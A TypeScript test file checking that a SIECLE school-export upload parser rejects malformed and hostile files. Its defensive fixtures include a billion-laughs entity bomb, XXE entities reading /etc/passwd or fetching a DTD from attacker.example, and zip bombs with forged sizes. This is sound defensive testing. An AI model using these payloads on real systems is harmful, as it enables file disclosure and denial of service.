/**
 * Bad uploads, as an administrator could send them, through the public entry points: each is
 * refused with a stable code and a French message naming the file (and the line when known).
 */
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { elevesXml, encodeXml, generateSiecleFiles, makeSchool } from '../synthetic/generate.ts';
import { expectSiecleError, lineOf, utf8 } from '../../../../test/fixtures/siecle/helpers.ts';
import { detectSiecleKind, parseEleves, parseSiecleUpload, parseSiecleXml, sniffUploadFormat } from './index.ts';

const school = makeSchool({ learners: 20, seed: 11 });
const files = generateSiecleFiles(school);
const elevesText = elevesXml(school).replace(' encoding="__ENCODING__"', ' encoding="ISO-8859-15"');

describe('bad files', () => {
  it('truncated export: refused at its last line, naming the open tag', () => {
    for (const fraction of [0.1, 0.5, 0.93]) {
      const cut = files.eleves.slice(0, Math.floor(files.eleves.length * fraction));
      const error = expectSiecleError(() => parseSiecleUpload(cut, 'ElevesSansAdresses.xml'), 'siecle.malformed_xml');
      expect(error.reason).toMatch(/fin de fichier inattendue|fichier tronqué/);
      expect(error.line).toBe(new TextDecoder('latin1').decode(cut).split('\n').length);
    }
  });

  it('mismatched tag: refused with the line of the closing tag', () => {
    const broken = elevesText.replace('<PRENOM>', '<PRENON>');
    const line = lineOf(broken, '<PRENON>');
    const error = expectSiecleError(() => parseSiecleUpload(encodeXml(elevesXml(school).replace('<PRENOM>', '<PRENON>')), 'ElevesSansAdresses.xml'), 'siecle.malformed_xml', line);
    expect(error.message).toBe(`ElevesSansAdresses.xml, ligne ${line} : balise fermante inattendue : la balise <PRENON> ouverte ligne ${line} n'est pas refermée par la bonne balise.`);
  });

  it('billion laughs inside a SIECLE-looking file', () => {
    const entities = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = `<?xml version="1.0" encoding="ISO-8859-15"?>\n<!DOCTYPE BEE_ELEVES [\n<!ENTITY lol0 "lol">\n${entities}\n]>\n<BEE_ELEVES VERSION="3.0"><PARAMETRES><UAJ>&lol10;</UAJ></PARAMETRES></BEE_ELEVES>`;
    const started = performance.now();
    expectSiecleError(() => parseSiecleUpload(utf8(xml), 'ElevesSansAdresses.xml'), 'siecle.doctype_forbidden', 2);
    expectSiecleError(() => parseEleves(utf8(xml), 'ElevesSansAdresses.xml'), 'siecle.doctype_forbidden', 2);
    expect(performance.now() - started).toBeLessThan(2_000); // no expansion: it fails at once (speed: bench/)
  });

  it('DOCTYPE with an external entity (XXE), also after a BOM and in UTF-16', () => {
    const xxe = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE STS_EDT [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<STS_EDT><PARAMETRES><UAJ CODE="&xxe;"/></PARAMETRES></STS_EDT>';
    expectSiecleError(() => parseSiecleUpload(utf8(xxe), 'sts_emp.xml'), 'siecle.doctype_forbidden', 2);
    expectSiecleError(() => parseSiecleUpload(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(xxe)]), 'sts_emp.xml'), 'siecle.doctype_forbidden', 2);
    const utf16 = new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from(xxe.replace('UTF-8', 'UTF-16'), 'utf16le'))]);
    expectSiecleError(() => parseSiecleUpload(utf16, 'sts_emp.xml'), 'siecle.doctype_forbidden', 2);
    // A parameter entity pointing outside, without a root element at all.
    expectSiecleError(() => parseSiecleUpload(utf8('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'), 'x.xml'), 'siecle.doctype_forbidden', 1);
  });

  it('PDF renamed .xml', () => {
    const pdf = utf8('%PDF-1.4\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
    expect(sniffUploadFormat(pdf)).toBe('pdf');
    const error = expectSiecleError(() => parseSiecleUpload(pdf, 'ElevesSansAdresses.xml'), 'siecle.wrong_file_type', null);
    expect(error.message).toBe('ElevesSansAdresses.xml : ce fichier est un PDF et non un export XML : un export SIECLE ou STSWEB est attendu.');
  });

  it('other non-XML content: spreadsheet export, binary, HTML page', () => {
    expectSiecleError(() => parseSiecleUpload(utf8('NOM;PRENOM;CLASSE\r\nDUPONT;Marie;2GA1\r\n'), 'eleves.csv'), 'siecle.wrong_file_type', null);
    expectSiecleError(() => parseSiecleUpload(new Uint8Array([0x00, 0x01, 0x02, 0xff, 0xfe, 0x10, 0x80]), 'x.xml'), 'siecle.wrong_file_type');
    const html = expectSiecleError(() => parseSiecleUpload(utf8('<html><body>Session expirée</body></html>'), 'export.xml'), 'siecle.wrong_file_type', 1);
    expect(html.reason).toContain('<html>');
  });

  it('empty file and empty ZIP', () => {
    expectSiecleError(() => parseSiecleUpload(new Uint8Array(0), 'ElevesSansAdresses.xml'), 'siecle.empty_file', null);
    expectSiecleError(() => parseSiecleUpload(zipSync({}), 'ExportXML_ElevesSansAdresses.zip'), 'siecle.zip_empty', null);
  });

  it('zip bomb: a small archive declaring a huge entry, or lying about it', () => {
    const z = zipSync({ 'ElevesSansAdresses.xml': new Uint8Array(8 * 1024 * 1024) });
    const view = new DataView(z.buffer);
    let eocd = z.length - 22;
    while (view.getUint32(eocd, true) !== 0x06054b50) eocd--;
    const cd = view.getUint32(eocd + 16, true);
    const declaringHuge = z.slice();
    new DataView(declaringHuge.buffer).setUint32(cd + 24, 2_000_000_000, true);
    expectSiecleError(() => parseSiecleUpload(declaringHuge, 'bombe.zip'), 'siecle.too_large', null);
    const lying = z.slice();
    new DataView(lying.buffer).setUint32(cd + 24, 4096, true);
    expectSiecleError(() => parseSiecleUpload(lying, 'bombe.zip'), 'siecle.zip_invalid', null);
  });

  it('swapped files: each export where another is expected', () => {
    const cases = [
      [files.responsables, 'eleves', 'responsables « ResponsablesAvecAdresses.xml »'],
      [files.eleves, 'responsables', 'élèves « ElevesSansAdresses.xml »'],
      [files.eleves, 'sts', 'élèves'],
      [files.sts, 'eleves', 'STSWEB'],
    ] as const;
    for (const [bytes, expected, says] of cases) {
      const error = expectSiecleError(() => parseSiecleXml(bytes, 'fichier.xml', expected), 'siecle.wrong_file_type', 2);
      expect(error.reason).toContain(says);
      expect(error.reason).toContain('est attendu ici');
    }
    // Without expectation, each is recognised.
    expect(detectSiecleKind(files.responsables, 'x.xml')).toBe('responsables');
  });

  it('unsupported encoding', () => {
    const bytes = utf8('<?xml version="1.0" encoding="x-macthai"?>\n<BEE_ELEVES/>');
    expectSiecleError(() => parseSiecleUpload(bytes, 'ElevesSansAdresses.xml'), 'siecle.encoding_unsupported', 1);
  });
});
